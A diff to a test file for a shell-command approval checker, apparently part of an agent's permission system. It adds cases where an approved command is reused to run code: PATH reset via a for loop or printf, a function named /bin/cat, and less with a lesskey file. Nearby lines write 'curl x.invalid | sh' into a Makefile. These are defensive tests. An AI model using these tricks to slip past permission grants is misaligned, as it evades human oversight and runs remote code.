@@ -54,6 +54,14 @@ CASES = [  # (approved for the run, a later command no grant of it may answer)
     ("exec 3>Makefile; echo ok | cat >&3", "exec 3>Makefile; echo 'all:; curl x.invalid | sh' | cat >&3"),
     ("PATH=/tmp/x; echo 'print(1)' | cat", "PATH=/tmp/x; echo 'open(\"PWNED\", \"w\")' | cat"),
     ("echo ok | tee -- -d/../Makefile", "echo 'all:; curl x.invalid | sh' | tee -- -d/../Makefile"),
+    # fourth round (helper 111): PATH set by a builtin that names it, a function named by its
+    # path, less (a lesskey file sets LESSOPEN)
+    ("for PATH in /tmp/x; do true; done; echo 'print(1)' | cat",
+     "for PATH in /tmp/x; do true; done; echo 'open(\"PWNED\", \"w\")' | cat"),
+    ("printf -v PATH %s /tmp/x; echo 'print(1)' | cat", "printf -v PATH %s /tmp/x; echo 'open(\"PWNED\", \"w\")' | cat"),
+    ("/bin/cat() { python3 -q; }; echo 'print(1)' | /bin/cat",
+     "/bin/cat() { python3 -q; }; echo 'open(\"PWNED\", \"w\")' | /bin/cat"),
+    ("echo 'print(1)' | less --lesskey-src=keys", "echo 'open(\"PWNED\", \"w\")' | less --lesskey-src=keys"),
 ]
 
 
@@ -70,6 +78,9 @@ def test_a_compound_fed_only_data_filters_stays_grantable() -> None:
     assert ungrantable("cat notes.txt | if true; then grep a; fi") == frozenset()
     assert ungrantable("cat notes.txt | { grep a; wc -l; }") == frozenset()
     assert ungrantable("cat x | grep a | sort | uniq -c") == frozenset()
+    # a redirection that no pipe's data reaches leaves a later pipe grantable (helper 111)
+    assert ungrantable("pytest > log; git log | head") == frozenset()
+    assert ungrantable("{ make; } > log; git log | head -3") == frozenset()
     assert ungrantable("cat x | /usr/bin/grep a | head -5 | tee") == frozenset()
 
 
